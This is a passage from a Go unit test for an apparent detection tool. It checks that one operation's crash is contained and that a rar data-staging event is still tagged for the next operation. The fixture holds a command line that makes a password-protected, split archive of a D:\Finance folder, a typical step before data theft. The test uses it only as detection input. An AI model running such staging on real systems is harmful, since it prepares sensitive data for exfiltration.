		if op.ID == "bad" {
			var m map[string]int
			m["x"] = 1 // a bug's panic
		}
		return real(op, dets, j)
	}
	dets := []result.Detection{proc("WS1", 0, `C:\t\rar.exe`, `rar.exe a -hpX -v100m C:\t\o.rar D:\Finance`, `C:\t\`)}
	ops := []result.Operation{{ID: "bad", Detections: []int{0}}, {ID: "good", Detections: []int{0}}}
	Annotate(ops, dets, nil)
	if e := ops[0].Exposure; e == nil || !strings.Contains(e.Summary, "internal error") || len(e.Items) != 0 {
		t.Errorf("the panicking operation: got %+v, want no items and a summary saying why", e)
	}
	if e := ops[1].Exposure; e == nil || find(e, result.ExposureStaged, "rar") == nil {
		t.Errorf("the next operation: got %+v, want its rar staging", e)
	}
}
